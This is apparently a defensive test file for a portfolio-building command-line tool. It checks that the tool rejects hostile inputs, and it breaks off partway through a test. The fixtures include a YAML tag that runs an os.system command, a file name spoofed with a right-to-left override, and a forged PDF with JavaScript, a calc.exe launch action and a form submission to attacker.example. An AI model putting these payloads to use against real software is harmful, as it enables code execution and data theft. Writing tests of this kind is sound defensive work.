import { spawn, type ChildProcess } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { cp, mkdir, readdir, readFile, rename, symlink, truncate, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFObject } from "pdf-lib";
import { beforeAll, describe, expect, it } from "vitest";
import { checkWorkspace } from "../src/check/check-workspace.ts";
import { findLeaks, findLeaksIn, WINDOW } from "../src/privacy/final-pass.ts";
import { LIMITS } from "../src/workspace/limits.ts";
import { loadWorkspace } from "../src/workspace/load-workspace.ts";
import { runCli } from "./helpers/cli.ts";
import { tool } from "./helpers/pdf-tools.ts";
import { findings, fixtureWorkspace, repoRoot, tempDir } from "./helpers/workspace.ts";

const reflection = (title: string, body: string) => `---\ntitle: ${title}\ndate: 2026-03-01\ncriteria: ["1.1"]\n---\n\n${body}\n`;

describe("hostile inputs: files", () => {
  it("reports a file that is not UTF-8 at its byte, line and column, and reads the rest", async () => {
    const dir = await fixtureWorkspace("clean");
    const text = Buffer.from(reflection("Latin-1 from an old editor", "Caf\u00e9 at the forum. {ac=1.1}"), "utf8");
    const latin1 = Buffer.from(text.toString("utf8").replace("\u00e9", "\u0000"), "utf8");
    latin1[latin1.indexOf(0)] = 0xe9; // é as Latin-1: a lone byte UTF-8 cannot start with
    await writeFile(join(dir, "reflections", "latin1.md"), latin1);
    await writeFile(join(dir, "reflections", "nul.md"), reflection("A NUL", "Text\u0000with a NUL. {ac=1.1}"));
    const before = await readFile(join(dir, "reflections", "latin1.md"));
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "encoding-invalid")).toEqual([
      { where: "reflections/latin1.md:7:4", severity: "error", message: `Byte ${latin1.indexOf(0xe9)} (0xe9) is not UTF-8; the file was not read. Save it as UTF-8 (in most editors: "Save with encoding")` },
      { where: "reflections/nul.md:7:5", severity: "error", message: `Byte ${Buffer.from(reflection("A NUL", "Text")).length - 1} is a NUL character, which a text file does not hold; the file was not read. Remove it, or copy the text into a new file` },
    ]);
    expect(result.workspace.reflections.map((r) => r.file)).toEqual(["reflections/all.md"]);
    expect(await readFile(join(dir, "reflections", "latin1.md"))).toEqual(before);
  });

  it("reports portfolio.yaml, a unit spec and the register that are not UTF-8, rather than what they would lack", async () => {
    const dir = await fixtureWorkspace("clean");
    const config = await readFile(join(dir, "portfolio.yaml"));
    await writeFile(join(dir, "portfolio.yaml"), Buffer.concat([config, Buffer.from("# Centre: Caf\xe9 Lane\n", "latin1")]));
    const unit = await readFile(join(dir, "units", "J-506-1949.yaml"), "utf8");
    await writeFile(join(dir, "units", "J-506-1949.yaml"), unit.replace("title:", "title:\u0000"));
    await mkdir(join(dir, "network"), { recursive: true });
    await writeFile(join(dir, "network", "contacts.yaml"), Buffer.from("contacts:\n  - id: jdoe\n    name: Jos\xe9\n", "latin1"));
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "encoding-invalid").map((f) => f.where)).toEqual([
      "network/contacts.yaml:3:14",
      `portfolio.yaml:${config.toString("utf8").split("\n").length}:14`,
      `units/J-506-1949.yaml:${unit.slice(0, unit.indexOf("title:")).split("\n").length}:7`,
    ]);
    expect(result.errorCount).toBeGreaterThanOrEqual(3);
  });

  it("does not follow a reflection that is a symbolic link, and says so", async () => {
    const dir = await fixtureWorkspace("clean");
    const outside = join(await tempDir(), "secret.md");
    await writeFile(outside, reflection("Outside", "Not the learner's. {ac=1.1}"));
    await symlink(outside, join(dir, "reflections", "linked.md"));
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "reflection-link")).toEqual([
      { where: "reflections/linked.md:1:1", severity: "error", message: "This reflection is a symbolic link, which is not followed (it could lead out of the workspace); put the file itself here" },
    ]);
    expect(result.workspace.reflections.some((r) => r.title === "Outside")).toBe(false);
  });

  it("follows no link from portfolio.yaml, a unit spec, the register or a folder of them, out of the workspace", async () => {
    const dir = await fixtureWorkspace("privacy");
    const outside = await tempDir();
    const moveOut = async (path: string) => {
      await rename(join(dir, path), join(outside, path.replace(/\//g, "-")));
      await symlink(join(outside, path.replace(/\//g, "-")), join(dir, path));
    };
    for (const path of ["reflections", "network/contacts.yaml", "units/J-506-1949.yaml"]) await moveOut(path);
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "file-link").map((f) => f.where)).toEqual(["network/contacts.yaml:1:1", "reflections/:1:1", "units/J-506-1949.yaml:1:1"]);
    expect(result.workspace.reflections).toEqual([]);
    expect(result.workspace.register.contacts).toEqual([]);
    await moveOut("portfolio.yaml");
    expect(findings(checkWorkspace(await loadWorkspace(dir)), "file-link")).toContainEqual({
      where: "portfolio.yaml:1:1", severity: "error", message: "This is a symbolic link, which is not followed (it could lead out of the workspace); put the file or folder itself here",
    });
  });

  it("refuses two reflections that would be published at one address (names differing in case)", async () => {
    const dir = await fixtureWorkspace("clean", {
      "reflections/Forum notes.md": reflection("Forum, first", "One. {ac=1.1}"),
      "reflections/forum-notes.md": reflection("Forum, second", "Two. {ac=1.1}"),
    });
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "reflection-clash")).toEqual([
      { where: "reflections/forum-notes.md:1:1", severity: "error", message: "This file and reflections/Forum notes.md would both be published as reflections/forum-notes/ (their names differ only in case or punctuation, which many disks do not tell apart); rename one" },
    ]);
  });

  it("refuses a file name that shows as another (a line break, a right-to-left override), and says it as it is", async () => {
    const dir = await fixtureWorkspace("clean", {
      "reflections/line\nbreak.md": reflection("Line break", "Text. {ac=1.1}"),
      "reflections/rev\u202edm.md": reflection("Reversed", "Text. {ac=1.1}"),
      "reflections/cites.md": "---\ntitle: Cites\ndate: 2026-03-01\ncriteria: [\"1.1\"]\nevidence: [\"evidence/photo\u202egnp.exe\"]\n---\n\nText. {ac=1.1}\n",
    });
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "file-name-invalid")).toEqual([
      { where: "reflections/line\nbreak.md:1:1", severity: "error", message: "This file's name holds a line break, so it shows as something it is not; rename it (the file was not read)" },
      { where: "reflections/rev\u202edm.md:1:1", severity: "error", message: "This file's name holds an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE), so it shows as something it is not; rename it (the file was not read)" },
    ]);
    expect(findings(result, "field-invalid")).toEqual([
      { where: "reflections/cites.md:5:12", severity: "error", message: "Evidence path `evidence/photo<U+202E>gnp.exe` holds an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE), so it shows as something it is not; rename the file and cite it again" },
    ]);
    const { stdout } = runCli(["check", "--dir", dir]);
    expect(stdout).toContain("\nreflections/line<U+000A>break.md\n");
    expect(stdout).toContain("\nreflections/rev<U+202E>dm.md\n");
  });

  it("names an invisible character pasted into a criterion id or a unit, at its place", async () => {
    const dir = await fixtureWorkspace("clean", {
      "reflections/pasted.md": "---\ntitle: Pasted from the spec\ndate: 2026-03-01\ncriteria:\n  R/600/9587: [\"1.1\u200b\", \"1.\u202e2\"]\n  \u2066R/600/9587: [\"1.3\"]\n---\n\nText. {ac=1.1}\n",
    });
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "field-invalid")).toEqual([
      { where: "reflections/pasted.md:5:16", severity: "error", message: "Criterion id `1.1<U+200B>` holds an invisible character (U+200B ZERO WIDTH SPACE), often pasted in from a web page or a document; type the id again" },
      { where: "reflections/pasted.md:5:24", severity: "error", message: "Criterion id `1.<U+202E>2` holds an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE), often pasted in from a web page or a document; type the id again" },
      { where: "reflections/pasted.md:6:3", severity: "error", message: "Unit `<U+2066>R/600/9587` in `criteria` holds an invisible character (U+2066 LEFT-TO-RIGHT ISOLATE), often pasted in from a web page or a document; type it again" },
    ]);
  });
});

describe("hostile inputs: invisible characters in the body", () => {
  it("names them inside a marker and a contact reference, and still finds a contact's name they split", async () => {
    const body = [
      "I met @jsm\u200bith and @apatel\u200b today. {ac=1.\u200b1}",
      "",
      "Jo\u00adanna Smithers and Joanna Smi\u200cthers both said so. {ac=1.1}\u200b",
    ].join("\n");
    const dir = await fixtureWorkspace("privacy", { "reflections/pasted.md": reflection("Pasted", body) });
    const result = checkWorkspace(await loadWorkspace(dir, { render: true }));
    const rows = result.diagnostics.filter((d) => d.file === "reflections/pasted.md").map((d) => ({ where: `${d.line}:${d.column}`, rule: d.rule, message: d.message }));
    expect(rows).toEqual([
      { where: "7:11", rule: "contact-unknown", message: "Contact reference `@jsm<U+200B>ith` holds an invisible character (U+200B ZERO WIDTH SPACE), often pasted in from a web page or a document; type it again" },
      { where: "7:42", rule: "marker-invalid", message: "Marker `{ac=1.<U+200B>1}` holds an invisible character (U+200B ZERO WIDTH SPACE), often pasted in from a web page or a document; type it again" },
      { where: "9:1", rule: "contact-name-in-text", message: "Contact's name `Jo<U+00AD>anna Smithers` written out; write `@jsmith` instead (what is shared shows \"Contact A, finance director at a regional bank\")" },
      { where: "9:22", rule: "contact-name-in-text", message: "Contact's name `Joanna Smi<U+200C>thers` written out; write `@jsmith` instead (what is shared shows \"Contact A, finance director at a regional bank\")" },
    ]);
    // What is shared never holds the name, however it was split.
    const html = result.workspace.reflections.find((r) => r.file === "reflections/pasted.md")!.html!;
    expect(html.replace(/[\u00ad\u200b-\u200f]/g, "")).not.toMatch(/Joanna|Smithers/);
    // The marker at the end, an invisible character after it, is a marker.
    expect(html).toContain('class="ac-badge"');
  });

  it("names one in a contact id in the register, and finds a name pasted into it with one", async () => {
    const dir = await fixtureWorkspace("privacy", { "reflections/plain.md": reflection("Plain", "Joanna Smithers and Arun Patel said so. {ac=1.1}") });
    const register = join(dir, "network", "contacts.yaml");
    const text = await readFile(register, "utf8");
    await writeFile(register, text.replace("id: apatel", "id: apatel\u200b").replace("name: Joanna Smithers", "name: Jo\u00adanna Smithers"));
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "field-invalid").filter((f) => f.where.startsWith("network/"))).toEqual([
      { where: `network/contacts.yaml:${text.slice(0, text.indexOf("id: apatel")).split("\n").length}:9`, severity: "error", message: "Contact id `apatel<U+200B>` holds an invisible character (U+200B ZERO WIDTH SPACE), often pasted in from a web page or a document; type it again" },
    ]);
    expect(findings(result, "contact-name-in-text").map((f) => f.where)).toContain("reflections/plain.md:7:1");
  });
});

describe("hostile inputs: YAML and Markdown", () => {
  const head = 'title: T\ndate: 2026-01-01\ncriteria: ["1.1"]';
  const read = async (source: string) => {
    const dir = await fixtureWorkspace("clean", { "reflections/hostile.md": source });
    const result = checkWorkspace(await loadWorkspace(dir));
    return { result, rows: result.diagnostics.filter((d) => d.file === "reflections/hostile.md").map((d) => `${d.line}:${d.column} ${d.rule}`) };
  };

  it("does not expand an alias bomb: an alias where criteria should be is reported, at once", async () => {
    const bomb = ['title: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...["b", "c", "d", "e", "f", "g"].map((k, i) => `${k}: &${k} [${Array(9).fill(`*${i === 0 ? "a" : ["b", "c", "d", "e", "f"][i - 1]}`).join(",")}]`), "date: 2026-01-01", "criteria: *g"].join("\n");
    // Expanded, the bomb would be 9^7 strings: the test's time limit would stop it long before.
    const { rows } = await read(`---\n${bomb}\n---\nText.\n`);
    expect(rows).toContain("2:11 field-invalid");
    expect(rows).toContain("10:11 field-invalid");
  });

  it.each([
    "!!python/object/apply:os.system [\"touch /tmp/pwned\"]",
    "!ruby/object:Gem::Installer {i: x}",
    "!<tag:yaml.org,2002:js/regexp> /x/",
    "!!binary aGVsbG8=",
    "!!set {a, b}",
    "!!timestamp 2026-01-01",
    "!custom value",
  ])("refuses the tag in `notes: %s` at its place, and reads nothing through it", async (tagged) => {
    const { rows, result } = await read(`---\n${head}\nnotes: ${tagged}\n---\nText. {ac=1.1}\n`);
    expect(rows).toEqual(["5:8 yaml-unsupported-tag"]);
    expect(result.diagnostics.find((d) => d.rule === "yaml-unsupported-tag")!.message).toBe(`Unsupported YAML tag \`${tagged.split(" ")[0]}\`; write plain values without tags`);
  });

  it("reads the core schema's tags (`!!str`) as plain values", async () => {
    expect((await read(`---\ntitle: !!str 2026\ndate: 2026-01-01\ncriteria: [!!str 1.1]\n---\nText. {ac=1.1}\n`)).rows).toEqual([]);
  });

  it("keeps `<<` and `__proto__` as ordinary (unknown) keys, and Object.prototype clean", async () => {
    const { rows } = await read(`---\n<<: {title: Merged, polluted: yes}\n__proto__: {polluted: yes}\n${head}\n---\nText. {ac=1.1}\n`);
    expect(rows).toEqual(["2:1 field-unknown", "3:1 field-unknown"]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("reports a tab used as indentation where it is, and reads a file that starts with a byte order mark", async () => {
    expect((await read(`---\ntitle: T\n\tdate: 2026-01-01\ncriteria: ["1.1"]\n---\nText.\n`)).rows).toEqual(["3:1 yaml-syntax"]);
    expect((await read(`\uFEFF---\n${head}\n---\nText. {ac=1.1}\n`)).rows).toEqual([]);
  });

  it("refuses a 10 MB front matter unread, reads one just under the limit, and pathological Markdown with findings, not a hang (the test's time limit would stop a hang)", async () => {
    const big = await read(`---\n${head}\nnotes: "${"x".repeat(10_000_000)}"\n---\nText. {ac=1.1}\n`);
    expect(big.rows).toEqual(["1:1 file-too-large"]);
    const under = await read(`---\n${head}\nnotes: "${"x".repeat(LIMITS.reflectionBytes - 200)}"\n---\nText. {ac=1.1}\n`);
    expect(under.rows).toEqual(["5:1 field-unknown"]);
    const deep = await read(`---\n${head}\n---\n${"> ".repeat(5000)}x\n\n${"[".repeat(50_000)}\n\n${"*".repeat(100_000)}a\n\n${"- ".repeat(3000)}x\n\n${"| a | b |\n| - | - |\n"}${"| x | y |\n".repeat(20_000)}\n\nText. {ac=1.1}\n`);
    expect(deep.result.workspace.reflections.some((r) => r.file === "reflections/hostile.md")).toBe(true);
    // Regression: 3,000 nested list items overflowed remark's stack and crashed the check.
    expect(deep.rows).toContain("6:1 markdown-too-complex");
  }, 60_000);
});

describe("hostile inputs: size", () => {
  it("builds with a video over 512 MB and an image too large to place: streamed, listed with their SHA-256, never held whole", async () => {
    // Regression: the final privacy pass read a 600 MB video as one string, which V8 cannot hold, and the build crashed.
    const dir = await fixtureWorkspace("clean");
    const sizes = { "evidence/forum-video.mp4": 513 * 1024 * 1024, "evidence/whiteboard.png": LIMITS.placedFileBytes + 1024 * 1024 };
    await mkdir(join(dir, "evidence"));
    for (const [file, size] of Object.entries(sizes)) { await writeFile(join(dir, file), ""); await truncate(join(dir, file), size); }
    const first = join(dir, "reflections", "all.md");
    await writeFile(first, (await readFile(first, "utf8")).replace("evidence_type:", `evidence:\n${Object.keys(sizes).map((f) => `  - ${f}\n`).join("")}evidence_type:`));
    const out = join(dirname(dir), "_site");
    const { status, stderr } = runCli(["build", "--dir", dir, "--out", out]);
    expect(stderr).toMatch(/reflections\/all.md\n +7:5 +warning/);
    expect(stderr).toContain("warning  Evidence file `evidence/whiteboard.png` is not reproduced in the PDF: it is 51 MB");
    expect(status).toBe(0);
    const text = tool("pdftotext", [join(out, "portfolio.pdf"), "-"]).stdout.replace(/\s+/g, " ");
    const zeros = (size: number) => { const hash = createHash("sha256"); for (let left = size; left > 0; left -= 1 << 20) hash.update(Buffer.alloc(Math.min(left, 1 << 20))); return hash.digest("hex"); };
    expect(text).toContain(`Appendix 1: evidence/forum-video.mp4 SHA-256 ${zeros(sizes["evidence/forum-video.mp4"])} Size 537,919,488 bytes`);
    expect(text).toContain(`Appendix 2: evidence/whiteboard.png SHA-256 ${zeros(sizes["evidence/whiteboard.png"])} Size 53,477,376 bytes`);
    expect(text).toContain("This file is not shown here: it is 51 MB, more than the 50 MB one file placed in the PDF may be. Its SHA-256 identifies it, so the file submitted with this portfolio can be checked against it.");
  }, 120_000);

  it("refuses a 50 MB reflection and an oversized unit spec at once, without reading them", async () => {
    const dir = await fixtureWorkspace("clean");
    await writeFile(join(dir, "reflections", "pasted.md"), reflection("A whole export", "x".repeat(50 * 1024 * 1024)));
    await writeFile(join(dir, "units", "huge.yaml"), `# ${"x".repeat(LIMITS.dataFileBytes)}\n`);
    const result = checkWorkspace(await loadWorkspace(dir));
    expect(findings(result, "file-too-large")).toEqual([
      { where: "reflections/pasted.md:1:1", severity: "error", message: "This file is 50 MB, more than the 2 MB a reflection may be (some 300,000 words); it was not read. Split it into several reflections, or put data in a file under `evidence/` and cite it in `evidence:`" },
      { where: "units/huge.yaml:1:1", severity: "error", message: "This file is 10,485,763 bytes, more than the 10 MB a unit spec may be; it was not read. Check that it is the file you meant: data this size belongs in `evidence/`" },
    ]);
    expect(result.workspace.reflections.map((r) => r.file)).toEqual(["reflections/all.md"]);
  });

  it("finds a protected name across the windows large files are searched in", async () => {
    const site = await tempDir();
    const bytes = Buffer.alloc(WINDOW + 1024 * 1024);
    bytes.write("Jo Bloggs", WINDOW - 4, "latin1");
    await writeFile(join(site, "video.mp4"), bytes);
    // A long CSV in UTF-8, an accented name across the same boundary.
    const csv = Buffer.alloc(WINDOW + 1024 * 1024, "x,");
    csv.write(",José Bloggs,", WINDOW - 5, "utf8");
    await writeFile(join(site, "log.csv"), csv);
    const names = [{ name: "Jo Bloggs", label: "the name of contact @jbloggs" }, { name: "José Bloggs", label: "the name of contact @jose" }];
    expect(await findLeaks(site, names)).toEqual([{ file: "log.csv", label: "the name of contact @jose" }, { file: "video.mp4", label: "the name of contact @jbloggs" }]);
    expect(await findLeaksIn([{ file: "portfolio.pdf", pdf: bytes, pdfStrings: "" }], names.slice(0, 1))).toEqual([{ file: "portfolio.pdf", label: "the name of contact @jbloggs" }]);
  });

  it("finds a protected name in evidence saved as UTF-16, Latin-1 or inside an old binary document", async () => {
    const site = await tempDir();
    const name = "Joanna Smíthers";
    const files: Record<string, Buffer> = {
      "unicode-text-from-excel.txt": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Name\tBank\r\n${name}\tNorthshire\r\n`, "utf16le")]),
      "big-endian-no-bom.csv": Buffer.from(`Name,Bank\n${name},Northshire\n`, "utf16le").swap16(),
      "old-editor.csv": Buffer.from(`Name,Note\n${name},Café\n`, "latin1"),
      "word-97.doc": Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512), Buffer.from(`Minutes: ${name} spoke.`, "utf16le")]),
    };
    for (const [file, bytes] of Object.entries(files)) await writeFile(join(site, file), bytes);
    const leaks = await findLeaks(site, [{ name, label: "the name of contact @jsmith" }]);
    expect(leaks.map((l) => l.file).sort()).toEqual(Object.keys(files).sort());
  });

  it("says where a table is too long for a reflection", async () => {
    const rows = (n: number) => `| Contact | Met |\n| --- | --- |\n${"| a | b |\n".repeat(n)}`;
    const dir = await fixtureWorkspace("clean", { "reflections/tables.md": reflection("Tables", `Text. {ac=1.1}\n\n${rows(LIMITS.tableRows)}\n${rows(20_000)}`) });
    expect(findings(checkWorkspace(await loadWorkspace(dir)), "table-too-large")).toEqual([
      { where: `reflections/tables.md:${9 + LIMITS.tableRows + 3}:1`, severity: "warning", message: "This table has 20,000 rows, more than the 1,000 a reflection's table should have (about 20 printed pages); put the data in a CSV file under `evidence/`, cite it in `evidence:`, and summarise it here" },
    ]);
  });

  it("places 200 photos in the PDF only up to its limits, and says which are listed instead, once", async () => {
    // Sparse files: the check only looks at their sizes.
    const photo = Math.ceil(1.3 * 1024 * 1024);
    const names = Array.from({ length: 200 }, (_, i) => `evidence/photos/p${String(i).padStart(3, "0")}.jpg`);
    const dir = await fixtureWorkspace("clean", {
      "reflections/photos.md": `---\ntitle: Photos\ndate: 2026-03-01\ncriteria: ["1.1"]\nevidence:\n  - evidence/video.mp4\n  - evidence/scan.pdf\n${names.map((n) => `  - ${n}`).join("\n")}\n---\n\nPhotos. {ac=1.1}\n`,
    });
    await mkdir(join(dir, "evidence", "photos"), { recursive: true });
    for (const [file, size] of [["evidence/video.mp4", 3 * LIMITS.placedFileBytes], ["evidence/scan.pdf", LIMITS.placedFileBytes + 200 * 1024], ...names.map((n) => [n, photo] as const)] as const) await truncate(join(dir, file), size).catch(async () => { await writeFile(join(dir, file), ""); await truncate(join(dir, file), size); });
    const fit = Math.floor(LIMITS.placedTotalBytes / photo);
    expect(findings(checkWorkspace(await loadWorkspace(dir)), "evidence-too-large")).toEqual([
      { where: "reflections/photos.md:7:5", severity: "warning", message: "Evidence file `evidence/scan.pdf` is not reproduced in the PDF: it is 50.1 MB, more than the 50 MB one file placed in the PDF may be. The PDF lists it with its SHA-256; submit the file with it, or make it smaller (a photo resized to 2,000 pixels wide is well under 1 MB)" },
      { where: `reflections/photos.md:${8 + fit}:5`, severity: "warning", message: `From evidence file \`${names[fit]}\` on, ${200 - fit} images and PDFs are not reproduced in the PDF: the images and PDFs placed before it come to 249 MB, and with it would pass the 250 MB the PDF holds. The PDF lists them with their SHA-256; submit the files with it, or make them smaller (a photo resized to 2,000 pixels wide is well under 1 MB)` },
    ]);
  });
});

describe("hostile inputs: a build stopped part-way", () => {
  /** The processes descended from `pid`, from /proc (Linux, where CI runs). */
  const descendants = (pid: number): number[] => {
    const parents = new Map<number, number>();
    for (const entry of readdirSync("/proc")) {
      if (!/^\d+$/.test(entry)) continue;
      try {
        const stat = readFileSync(`/proc/${entry}/stat`, "utf8");
        parents.set(Number(entry), Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]));
      } catch {
        // Gone meanwhile.
      }
    }
    const found: number[] = [];
    const walk = (p: number) => { for (const [child, parent] of parents) if (parent === p) { found.push(child); walk(child); } };
    walk(pid);
    return found;
  };
  const alive = (pid: number) => { try { process.kill(pid, 0); return true; } catch { return false; } };
  const gone = async (pids: number[]) => {
    for (let i = 0; i < 50 && pids.some(alive); i++) await new Promise((r) => setTimeout(r, 100));
    return pids.filter(alive);
  };

  /** Runs the CLI; once it says it is printing, does `act` to it; resolves with how it ended. */
  const interrupt = (args: string[], act: (child: ChildProcess, browser: number[]) => void) => {
    const child = spawn(process.execPath, [join(repoRoot, "bin", "portfolio.js"), ...args], { stdio: ["ignore", "ignore", "pipe"] });
    let stderr = "";
    let browser: number[] = [];
    child.stderr!.on("data", (chunk: Buffer) => {
      const printing = !stderr.includes("Printing");
      stderr += chunk.toString();
      if (printing && stderr.includes("Printing")) {
        browser = descendants(child.pid!);
        act(child, browser);
      }
    });
    return new Promise<{ status: number | null; stderr: string; browser: number[] }>((resolve, reject) => child.on("exit", (status) => {
      if (stderr.includes("Printing")) resolve({ status, stderr, browser });
      else reject(new Error(`portfolio ${args[0]} ended before printing: ${stderr}`));
    }));
  };

  /** Every file of a folder and its SHA-256, to see that nothing in it changed. */
  const snapshot = async (dir: string) => {
    const files = (await readdir(dir, { recursive: true, withFileTypes: true })).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
    return Object.fromEntries(await Promise.all(files.map(async (f) => [f, createHash("sha256").update(await readFile(f)).digest("hex")])));
  };

  let parent: string;
  let site: string;
  let before: Record<string, string>;
  // A one-reflection workspace: each run is stopped the moment it says it is printing.
  let ws: string;
  let build: string[];
  beforeAll(async () => {
    ws = await fixtureWorkspace("clean");
    build = ["build", "--no-sign", "--dir", ws];
    parent = await tempDir();
    site = join(parent, "_site");
    expect(runCli([...build, "--out", site]).status).toBe(0);
    before = await snapshot(site);
  }, 60_000);

  it("leaves the previous site and PDF whole on Ctrl-C, removes what was half written, and exits 130", async () => {
    const { status, stderr, browser } = await interrupt([...build, "--out", site], (child) => child.kill("SIGINT"));
    expect(stderr).toContain("portfolio: stopped (SIGINT). The previous site and PDF are as they were; what was half written is removed now, or by the next run.");
    expect(status).toBe(130);
    expect(await snapshot(site)).toEqual(before);
    expect(await readdir(parent)).toEqual(["_site"]);
    expect(await gone(browser)).toEqual([]);
  }, 60_000);

  it("says so when Chromium is killed while printing, and replaces nothing", async () => {
    const { status, stderr } = await interrupt([...build, "--out", site], (_, browser) => { for (const pid of browser) process.kill(pid, "SIGKILL"); });
    expect(stderr).toMatch(/portfolio: Chromium stopped while printing \S+ \(it was closed, crashed or ran out of memory\)\n  Nothing was replaced: the previous site and PDF are as they were\./);
    expect(status).toBe(2);
    expect(await snapshot(site)).toEqual(before);
    expect(await readdir(parent)).toEqual(["_site"]);
  }, 60_000);

  it("says so when there is no room to write the PDF, and replaces nothing", async () => {
    // The disk filling up, simulated: a file size limit on the build (not on Chromium, started already).
    const { status, stderr } = await interrupt([...build, "--out", site], (child) => { tool("prlimit", ["--pid", String(child.pid), "--fsize=20000"]); });
    expect(stderr).toContain("portfolio: Could not write the output: a file would pass the size limit for files (EFBIG)\n  Nothing was replaced: the previous site and PDF are as they were, and what was half written was removed. Make room and run again.");
    expect(status).toBe(2);
    expect(await snapshot(site)).toEqual(before);
    expect(await readdir(parent)).toEqual(["_site"]);
  }, 60_000);

  it("leaves the previous PDF as it was, and takes its browser down with it, on SIGKILL; the next run clears what it left", async () => {
    const out = join(await tempDir(), "portfolio.pdf");
    await writeFile(out, "%PDF-1.7 the previous, good PDF");
    const { browser } = await interrupt(["pdf", "--dir", ws, "--out", out], (child) => child.kill("SIGKILL"));
    expect(browser.length).toBeGreaterThan(0);
    expect(await gone(browser)).toEqual([]);
    expect(await readFile(out, "utf8")).toBe("%PDF-1.7 the previous, good PDF");
    // What a run killed while writing leaves beside the PDF, found and removed by the next.
    await writeFile(join(dirname(out), ".portfolio.pdf.deadbeef.tmp"), "half a PDF");
    // Any workspace will do for the next run: what it clears is beside the PDF.
    expect(runCli(["pdf", "--dir", await fixtureWorkspace("clean"), "--out", out]).status).toBe(0);
    expect(await readdir(dirname(out))).toEqual(["portfolio.pdf", "report.json"]);
  }, 60_000);
});

describe("hostile inputs: where a PDF is written", () => {
  let ws: string;
  let site: string;
  beforeAll(async () => {
    // A one-reflection workspace: these tests are about where the PDF goes, not what it holds.
    ws = await fixtureWorkspace("clean");
    site = join(dirname(ws), "_site");
  });
  const refused = (args: string[], reason: string) => {
    const { status, stderr } = runCli(args);
    expect(stderr).toContain(reason);
    expect(status).toBe(2);
  };

  it("refuses a PDF path in the workspace, or a file that is not a PDF, and leaves them be", async () => {
    // Regression: `--out portfolio/portfolio.yaml` replaced the learner's portfolio.yaml with a PDF.
    const config = await readFile(join(ws, "portfolio.yaml"));
    refused(["pdf", "--dir", ws, "--out", join(ws, "portfolio.yaml")], `Refusing to write the PDF to ${join(ws, "portfolio.yaml")}: it is inside the workspace, which only holds your sources`);
    expect(await readFile(join(ws, "portfolio.yaml"))).toEqual(config);
    expect(existsSync(join(ws, "report.json"))).toBe(false);
    const notes = join(dirname(ws), "notes.txt");
    await writeFile(notes, "the learner's notes");
    refused(["pdf", "--dir", ws, "--out", notes], "it is not a PDF, and writing would replace it");
    refused(["sign", "portfolio.pdf", "--key", "learner.p12", "--out", notes], `Refusing to write the PDF to ${notes}: it is not a PDF, and writing would replace it`);
    expect(await readFile(notes, "utf8")).toBe("the learner's notes");
    const foreign = join(await tempDir(), "out");
    await mkdir(foreign);
    await writeFile(join(foreign, "report.json"), '{"quarter": "Q3"}');
    refused(["pdf", "--dir", ws, "--out", join(foreign, "portfolio.pdf")], `${join(foreign, "report.json")} beside it was not written by this tool`);
  });

  it("never prints over a signed PDF, and lets a build replace a PDF `portfolio pdf` wrote into its site", async () => {
    expect(runCli(["build", "--dir", ws, "--out", site]).status).toBe(0);
    const signed = await readFile(join(site, "portfolio.pdf"));
    refused(["pdf", "--dir", ws, "--out", join(site, "portfolio.pdf")], "it is signed, and a new print would replace it without its signatures");
    expect(await readFile(join(site, "portfolio.pdf"))).toEqual(signed);
    // A site without a PDF (no print needed), a PDF `portfolio pdf` wrote into it, then a build over both.
    expect(runCli(["build", "--no-pdf", "--dir", ws, "--out", site]).status).toBe(0);
    expect(runCli(["pdf", "--dir", ws, "--out", join(site, "portfolio.pdf")]).status).toBe(0);
    expect(runCli(["build", "--no-sign", "--dir", ws, "--out", site]).status).toBe(0);
  }, 120_000);
});

describe("hostile inputs: an evidence PDF that would act when opened", () => {
  it("merges its pages without JavaScript, launch or form actions, attachments or media, keeping how they look and their web links", async () => {
    // An evidence PDF as a hostile one would be made: every way a PDF can act when opened or clicked.
    const evil = await PDFDocument.create();
    const page = evil.addPage([595, 842]);
    page.drawText("Minutes of the forum, as evidence", { x: 50, y: 780, size: 14, font: await evil.embedFont(StandardFonts.Helvetica) });
    const ctx = evil.context;
    const js = ctx.obj({ S: "JavaScript", JS: PDFString.of("app.alert('pwned')") });
    const link = (action: PDFObject, y: number) => ctx.register(ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, y, 300, y + 20], A: action }));
    const payload = ctx.register(ctx.obj({ Type: "EmbeddedFile" }));
    const form = ctx.register(ctx.obj({ FT: "Tx", T: PDFString.of("total"), AA: { K: js } }));
    page.node.set(PDFName.of("Annots"), ctx.obj([
      link(js, 700),
      link(ctx.obj({ S: "Launch", F: PDFString.of("calc.exe") }), 670),
      link(ctx.obj({ S: "URI", URI: PDFString.of("javascript:alert(1)") }), 640),
      link(ctx.obj({ S: "SubmitForm", F: PDFString.of("https://attacker.example/collect") }), 610),
      link(ctx.obj({ S: "URI", URI: PDFString.of("https://example.org/minutes"), Next: js }), 580),
      ctx.register(ctx.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [50, 500, 70, 520], FS: { Type: "Filespec", F: PDFString.of("payload.exe"), EF: { F: payload } } })),
      ctx.register(ctx.obj({ Type: "Annot", Subtype: "Widget", Rect: [50, 450, 300, 470], Parent: form, AA: { E: js } })),
    ]));
    page.node.set(PDFName.of("AA"), ctx.obj({ O: js }));
    evil.catalog.set(PDFName.of("OpenAction"), js);

    const dir = await fixtureWorkspace("clean");
    await mkdir(join(dir, "evidence"));
